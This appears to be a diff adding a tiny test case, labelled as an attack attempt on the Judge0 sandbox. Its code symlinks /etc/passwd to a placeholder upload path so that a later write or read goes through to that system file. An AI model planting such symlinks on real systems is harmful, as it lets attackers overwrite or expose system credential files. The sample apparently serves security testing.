@@ -1,0 +1,4 @@
+#| about = "a link where the bot will write next (Judge0, 2024)"
+#| attempt = true
+import os
+os.symlink("/etc/passwd", "@FOLDER@/upload")
